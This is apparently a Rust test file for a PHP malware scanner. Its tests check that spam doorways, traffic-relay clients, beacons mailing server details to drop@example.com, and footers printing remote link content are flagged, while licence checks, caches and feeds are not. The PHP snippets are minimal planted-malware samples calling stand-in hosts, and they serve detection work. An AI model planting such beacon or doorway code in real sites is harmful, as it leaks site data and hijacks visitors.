//! Tests of [`super`]: each family with its own minimal shape, a clean near-miss, and its fixture.

use crate::detect::Why;
use crate::php;

fn found(src: &str) -> Vec<Why> {
    let t = php::tokenize_for_test(src.as_bytes(), 100_000);
    let families = super::Families { site_pages: true, printed: None, fetches: true };
    super::analyze(src.as_bytes(), &t, super::Options { small: t.len() < 400 }, families)
        .into_iter()
        .map(|s| s.why)
        .collect()
}

#[test]
fn a_page_fetched_from_another_site_by_this_sites_name_is_a_doorway() {
    let direct = "<?php $r = 'http://pages.example.net/'; $me = 'http://' . $_SERVER['HTTP_HOST'];\n\
                  $page = file_get_contents($r . '?site=' . $me . '&q=' . $_SERVER['QUERY_STRING']);\necho $page;";
    assert_eq!(found(direct), [Why::SpamDoorway]);
    // Through a function of the file's own, defined after its call.
    let wrapped = "<?php $html = fetch('http://203.0.113.9/gen.php?h=' . $_SERVER['SERVER_NAME']); echo $html;\n\
                   function fetch($u) { return @file_get_contents($u); }";
    assert_eq!(found(wrapped), [Why::SpamDoorway]);
    // Saved as the site's pages.
    let saved = "<?php $p = @file_get_contents(\"https://gen.example.org/?host=\" . $_SERVER['HTTP_HOST']);\n\
                 file_put_contents('index.html', $p);";
    assert_eq!(found(saved), [Why::SpamDoorway]);
}

#[test]
fn a_page_relayed_through_curl_by_this_sites_name_is_a_doorway() {
    // The address is made once, naming this site, and the answer reaches `echo` through the
    // curl handle and two assignments (a reverse proxy serving another site's pages here).
    let src = "<?php $params = array('domain' => $_SERVER['HTTP_HOST'], 'ip' => $_SERVER['REMOTE_ADDR']);\n\
               $params = array_merge($params, $_GET);\n\
               $uri = 'http://pages.example.net/' . $path . '?' . http_build_query($params);\n\
               $ch = curl_init($uri); curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n\
               $response = curl_exec($ch); $info = curl_getinfo($ch);\n\
               $body = substr($response, $info['header_size']);\necho $body;";
    assert_eq!(found(src), [Why::SpamDoorway]);
    // The same relay whose answer is only checked, never printed: a licence check.
    let checked = src.replace("echo $body;", "if ($body !== 'ok') { echo 'Please activate.'; }");
    assert!(found(&checked).is_empty());
    // Regression (review): the usual curl idiom, an address built on with `.=`, one formatted
    // with `sprintf`.
    let setopt = "<?php $u = 'http://pages.example.net/p.php?d=' . $_SERVER['HTTP_HOST'];\n\
                  $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n\
                  $r = curl_exec($ch); echo $r;";
    assert_eq!(found(setopt), [Why::SpamDoorway]);
    let built = "<?php $u = 'http://pages.example.net/page.php?d='; $u .= urlencode($_SERVER['HTTP_HOST']);\n\
                 $p = file_get_contents($u); echo $p;";
    assert_eq!(found(built), [Why::SpamDoorway]);
    let formatted =
        "<?php $p = file_get_contents(sprintf('http://pages.example.net/?d=%s', $_SERVER['HTTP_HOST'])); echo $p;";
    assert_eq!(found(formatted), [Why::SpamDoorway]);
    // A licence check whose decoded answer's message is shown, escaped: not the fetched page.
    let licence = "<?php $url = 'https://license.vendor.example.com/verify?key=' . KEY . '&domain=' . $_SERVER['HTTP_HOST'];\n\
                   $res = file_get_contents($url); $data = json_decode($res, true);\n\
                   if (empty($data['valid'])) { echo '<p>' . htmlspecialchars($data['message']) . '</p>'; }";
    assert!(found(licence).is_empty());
    // The site's own address: a cache warming its pages.
    let own = src.replace("'http://pages.example.net/' . $path", "'http://' . $_SERVER['HTTP_HOST'] . '/' . $path");
    assert!(found(&own).is_empty());
}

#[test]
fn pages_written_from_another_servers_database_by_this_sites_name_are_a_doorway() {
    let src = "<?php $db = mysql_connect('db7.example.net', 'u', 'p'); mysql_select_db('pages', $db);\n\
               $q = mysql_query('select * from ' . str_replace('.', '_', $_SERVER['SERVER_NAME']));\n\
               while ($r = mysql_fetch_array($q)) { @mkdir($r['slug']); \
               file_put_contents($r['slug'] . '/index.html', $r['html']); }";
    assert_eq!(found(src), [Why::SpamDoorway]);
    // The site's own database on this server: a multi-site cache writing its pages.
    let local = src.replace("db7.example.net", "localhost");
    assert!(found(&local).is_empty());
    // Another server's database read by the site's name, nothing written (a shared login).
    let lookup = "<?php $db = mysqli_connect('db.example.net', 'u', 'p', 'sites');\n\
                  $r = mysqli_query($db, \"select * from sites where host='\" . $_SERVER['HTTP_HOST'] . \"'\");";
    assert!(found(lookup).is_empty());
}

#[test]
fn own_pages_licence_checks_and_feeds_are_not_doorways() {
    // A cache fetching the site's own page.
    let cache = "<?php $p = file_get_contents('http://' . $_SERVER['HTTP_HOST'] . '/index.php'); echo $p;";
    assert!(found(cache).is_empty());
    // A licence check sends the name away but prints no page.
    let licence = "<?php $ok = file_get_contents('https://vendor.example.com/check?d=' . $_SERVER['HTTP_HOST']);\n\
                   if ($ok !== 'valid') { echo 'Please activate.'; }";
    assert!(found(licence).is_empty());
    // A feed printed from another site, not chosen by this site's name.
    let feed = "<?php $f = file_get_contents('https://news.example.com/feed.xml'); echo $f;";
    assert!(found(feed).is_empty());
    // A class's method is the application's own.
    let method = "<?php class Remote { function page() { $p = file_get_contents('http://a.example.com/?h=' . \
                  $_SERVER['HTTP_HOST']); echo $p; } }";
    assert!(found(method).is_empty());
}

#[test]
fn server_facts_mailed_by_a_script_no_visitor_drives_are_a_beacon() {
    let beacon = "<?php $who = get_current_user(); $os = php_uname();\n\
                  $where = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n\
                  mail('drop@example.com', 'new', \"$who $os $where\");";
    assert_eq!(found(beacon), [Why::ReportsItsLocation]);
    // The same in a script that also reads a form (the beacon mails none of it).
    let with_form = format!("{beacon}\n$note = $_POST['note'];");
    assert_eq!(found(&with_form), [Why::ReportsItsLocation]);
}

#[test]
fn the_pages_address_mailed_to_an_address_in_the_code_is_a_beacon() {
    // Planted in a page: its address and the visitor's mailed to the author.
    let literal = "<?php $page = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n\
                   @mail('drop@example.com', 'planted', $page . ' ' . $_SERVER['REMOTE_ADDR']);";
    assert_eq!(found(literal), [Why::ReportsItsLocation]);
    let through_variable = "<?php $to = 'drop@example.com'; $u = $_SERVER['PHP_SELF']; $h = $_SERVER['SERVER_NAME'];\n\
                            mail($to, 'hit', \"$u $h\");";
    assert_eq!(found(through_variable), [Why::ReportsItsLocation]);
}

#[test]
fn a_sites_mail_naming_the_site_alone_or_to_a_configured_address_is_not_a_beacon() {
    // The site's name without the page: a notice to the owner.
    let notice = "<?php mail('owner@example.com', 'Backup done on ' . $_SERVER['HTTP_HOST'], 'ok');";
    assert!(found(notice).is_empty());
    // An error page mailing its address to the address the configuration names.
    let error =
        "<?php require 'config.php'; mail($config['admin'], '404', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);";
    assert!(found(error).is_empty());
    // A script that sets the request's keys before mailing reads no page's address.
    let set =
        "<?php $_SERVER['HTTP_HOST'] = 'a.example'; $_SERVER['REQUEST_URI'] = '/'; mail('x@example.com', 's', 'b');";
    assert!(found(set).is_empty());
}

#[test]
fn this_sites_name_sent_to_another_site_from_the_top_of_a_page_is_a_beacon() {
    let beacon = "<?php @file_get_contents('http://198.51.100.7/in.php?h=' . urlencode($_SERVER['HTTP_HOST'])); ?>\
                  <html><body>Shop</body></html>";
    assert_eq!(found(beacon), [Why::ReportsItsLocation]);
    // A licence check uses the answer.
    let licence = "<?php $ok = file_get_contents('https://vendor.example.com/check?d=' . $_SERVER['HTTP_HOST']);";
    assert!(found(licence).is_empty());
    // Inside the application's function (a plugin's ping on activation).
    let ping =
        "<?php function activate() { file_get_contents('https://stats.example.com/?s=' . $_SERVER['HTTP_HOST']); }";
    assert!(found(ping).is_empty());
}

#[test]
fn a_contact_form_or_a_status_page_is_not_a_beacon() {
    // A form mails what the visitor typed.
    let form =
        "<?php $ua = php_uname(); mail('me@example.com', 'Contact from ' . $_SERVER['HTTP_HOST'], $_POST['msg']);";
    assert!(found(form).is_empty());
    // Server facts shown, not mailed.
    assert!(found("<?php echo php_uname() . ' on ' . $_SERVER['HTTP_HOST'];").is_empty());
    // Mail sent from the application's function.
    let inside = "<?php function report() { mail('a@example.com', 's', php_uname() . $_SERVER['HTTP_HOST']); }";
    assert!(found(inside).is_empty());
}

#[test]
fn the_fixtures_are_found() {
    let cases: &[(&str, &str, Why)] = &[
        (
            "doorway_remote_pages.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/doorway_remote_pages.php"),
            Why::SpamDoorway,
        ),
        (
            "beacon_server_facts.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/beacon_server_facts.php"),
            Why::ReportsItsLocation,
        ),
        (
            "host_beacon_page.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/host_beacon_page.php"),
            Why::ReportsItsLocation,
        ),
        (
            "beacon_page_address_mailed.php",
            include_str!("../../../../tests/fixtures/sweep/malicious/beacon_page_address_mailed.php"),
            Why::ReportsItsLocation,
        ),
    ];
    for (name, src, why) in cases {
        let hits = crate::detect::judge(&format!("lib/{name}"), name, src.as_bytes(), &[]);
        assert!(hits.iter().any(|h| h.why == *why), "{name}: {hits:?}");
    }
}

fn printed_remote(src: &str) -> Option<usize> {
    let t = php::tokenize_for_test(src.as_bytes(), 100_000);
    let families =
        super::Families { site_pages: false, printed: super::printed_remote(src.as_bytes()), fetches: false };
    let found = super::analyze(src.as_bytes(), &t, super::Options::default(), families);
    found.iter().find(|s| s.why == Why::PrintsRemoteContent).map(|s| s.at)
}

#[test]
fn a_theme_footer_that_prints_another_sites_answer_is_seo_spam() {
    let footer = "<?php wp_footer(); ?>\n<?php\n$src = \"https://links.example.net/bl/\";\n\
                  function grab($u) { $d = @file_get_contents($u); if ($d) return $d;\n\
                  $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n\
                  echo grab($src);\n?>\n</body></html>";
    assert!(printed_remote(footer).is_some());
    let direct = "<?php get_footer(); echo @file_get_contents('http://ads.example.org/box.php?id=7'); ?>";
    assert!(printed_remote(direct).is_some());
}

#[test]
fn a_template_that_inlines_an_icon_or_escapes_a_feed_is_not_seo_spam() {
    // A remote icon or style is a part of the page, not a page.
    let icon = "<?php echo file_get_contents('https://cdn.example.com/icons/cart.svg'); ?></body>";
    assert_eq!(printed_remote(icon), None);
    // An answer escaped before it is printed is text.
    let escaped = "<?php echo esc_html(file_get_contents('https://status.example.com/now')); wp_footer(); ?>";
    assert_eq!(printed_remote(escaped), None);
    // The theme's own file, and an address that is not written in the file.
    let own = "<?php echo file_get_contents(get_template_directory() . '/parts/promo.html'); ?></html>";
    assert_eq!(printed_remote(own), None);
    let chosen = "<?php echo file_get_contents(get_option('banner_url')); wp_footer(); ?>";
    assert_eq!(printed_remote(chosen), None);
    // Saved, not printed: an updater (or a downloader, which other rules judge).
    let saved = "<?php $d = file_get_contents('https://upd.example.org/new.php'); fwrite($fp, $d); wp_footer();";
    assert_eq!(printed_remote(saved), None);
    // Not a template: a script that prints a fetched page is a proxy (the doorway rules).
    assert_eq!(printed_remote("<?php echo file_get_contents('https://api.example.com/p');"), None);
}

#[test]
fn many_fetches_of_one_address_read_its_value_once() {
    // Each fetch of `$u` asked for the literal `$u` was given by reading the whole file again:
    // a file of thousands of fetches cost their number times its length.
    let mut src = String::from("<?php $u = 'https://feed.example.net/p'; wp_footer();\n");
    for _ in 0..2000 {
        src.push_str("$x = file_get_contents($u);\n");
    }
    super::VALUE_READS.with(|c| c.set(0));
    assert_eq!(printed_remote(&src), None);
    assert_eq!(super::VALUE_READS.with(|c| c.get()), 1);
}

#[test]
fn a_page_a_bare_ip_picks_by_the_visitor_is_a_doorway() {
    // fresh19's traffic client: the visitor's address, browser and referrer sent to a server
    // known only by its number, and its answer served (a download, a page, or a fake 404).
    let client = "<?php $remote = 'http://198.51.100.24/request12.php'; \
                  $q = array('ip' => $_SERVER['REMOTE_ADDR'], 'ua' => $_SERVER['HTTP_USER_AGENT'], 'ref' => @$_SERVER['HTTP_REFERER']); \
                  $page = @file_get_contents($remote . '?' . http_build_query($q)); \
                  if (empty($page)) { header('HTTP/1.1 404 Not Found'); exit; } echo $page;";
    assert_eq!(found(client), [Why::SpamDoorway]);
    // Near-misses: a named geo service, a bare IP fetched knowing nothing of the visitor, and
    // the machine's own address.
    for quiet in [
        "<?php $g = file_get_contents('https://geo.example.com/json/' . $_SERVER['REMOTE_ADDR'] . '?ua=' . urlencode($_SERVER['HTTP_USER_AGENT'])); echo $g;",
        "<?php $s = file_get_contents('http://198.51.100.24/status.txt'); echo $s; echo $_SERVER['REMOTE_ADDR'];",
        "<?php $r = file_get_contents('http://127.0.0.1:8080/?ip=' . $_SERVER['REMOTE_ADDR'] . '&ua=' . $_SERVER['HTTP_USER_AGENT']); echo $r;",
    ] {
        assert!(found(quiet).is_empty(), "{quiet}: {:?}", found(quiet));
    }
}
